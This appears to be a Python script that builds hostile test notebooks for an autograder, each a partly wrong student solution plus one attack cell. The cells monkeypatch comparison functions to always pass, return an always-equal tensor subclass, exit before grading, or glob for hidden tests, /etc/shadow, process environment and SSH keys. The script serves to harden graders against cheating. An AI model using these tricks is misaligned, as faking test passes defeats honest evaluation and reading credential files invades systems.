"""Regenerate the hostile sample submissions: each is no_scale.ipynb (a real, partly wrong student
solution) plus one cell of attack. Under otter the first one earns full marks; here none of them may
score above no_scale.ipynb itself.   python examples/submissions/sdpa-from-scratch/hostile/make_hostile.py"""
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
BASE = HERE.parent / "no_scale.ipynb"

ATTACKS = {
    "monkeypatch_comparisons.ipynb": (
        "# Make every comparison succeed, the otter one-liner and friends.\n"
        "import torch, numpy, math, builtins\n"
        "torch.allclose = lambda *a, **k: True\n"
        "torch.equal = lambda *a, **k: True\n"
        "torch.testing.assert_close = lambda *a, **k: None\n"
        "torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)\n"
        "numpy.allclose = lambda *a, **k: True\n"
        "math.isclose = lambda *a, **k: True\n"
        "builtins.abs = lambda x: 0\n"),
    "tensor_subclass.ipynb": (
        "# Return a tensor subclass that claims to equal anything.\n"
        "import torch\n"
        "class AlwaysClose(torch.Tensor):\n"
        "    def __eq__(self, other): return True\n"
        "    def allclose(self, *a, **k): return True\n"
        "    @classmethod\n"
        "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
        "        if getattr(func, '__name__', '') in ('allclose', 'equal', 'isclose'): return True\n"
        "        return super().__torch_function__(func, types, args, kwargs or {})\n"
        "_honest = scaled_dot_product_attention\n"
        "def scaled_dot_product_attention(Q, K, V, mask=None):\n"
        "    return _honest(Q, K, V, mask).as_subclass(AlwaysClose)\n"),
    "os_exit.ipynb": (
        "# Leave before anything can be graded.\n"
        "import os\n"
        "os._exit(0)\n"),
    "reads_outside_submission.ipynb": (
        "# Go looking for the hidden tests, the reference and the grader's secrets, where this course keeps\n"
        "# them (its layout is public): Gradescope's /autograder/source, a checkout under /work or up from here.\n"
        "import glob, os\n"
        "stolen = {}\n"
        "for pattern in ['/autograder/source/*/reference/*.py', '/autograder/source/assignments/*/hidden/*.py',\n"
        "                '/work/*/reference/*.py', '/work/*/assignments/*/hidden/*.py', '../*/reference/*.py',\n"
        "                '../../*/assignments/*/hidden/*.py', '/etc/shadow', '/proc/1/environ',\n"
        "                os.path.expanduser('~/.ssh/*')]:\n"
        "    for p in glob.glob(pattern, recursive=True)[:50]:\n"
        "        try:\n"
        "            stolen[p] = open(p).read()[:2000]\n"
        "        except Exception:\n"
        "            pass\n"
        "print(len(stolen), 'files read')\n"),
}


def main() -> None:
    for name, attack in ATTACKS.items():
        nb = nbformat.read(BASE, as_version=4)
        nb.cells.append(nbformat.v4.new_code_cell(attack))
        for i, cell in enumerate(nb.cells):
            cell["id"] = f"hostile-{i:03d}"
        nbformat.write(nb, HERE / name)


if __name__ == "__main__":
    main()
